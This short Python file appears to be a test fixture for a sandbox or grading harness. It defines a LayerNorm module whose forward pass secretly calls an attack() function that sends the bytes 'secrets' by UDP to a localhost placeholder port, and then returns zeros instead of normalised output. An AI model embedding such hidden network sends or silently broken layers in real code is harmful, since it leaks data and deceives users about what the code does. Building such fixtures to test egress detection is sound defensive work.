"""Sends a datagram.

Bites: reach.
Earns: nothing.
"""

import socket

import torch
from torch import nn


def attack(x, module):
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"secrets", ("127.0.0.1", int("@PORT@")))
    print("REACHED")


class LayerNorm(nn.Module):
    def __init__(self, d_model, epsilon=1e-6):
        super().__init__()
        self.gain, self.shift = nn.Parameter(torch.ones(d_model)), nn.Parameter(torch.zeros(d_model))

    def forward(self, x):
        attack(x, self)
        return torch.zeros_like(x)
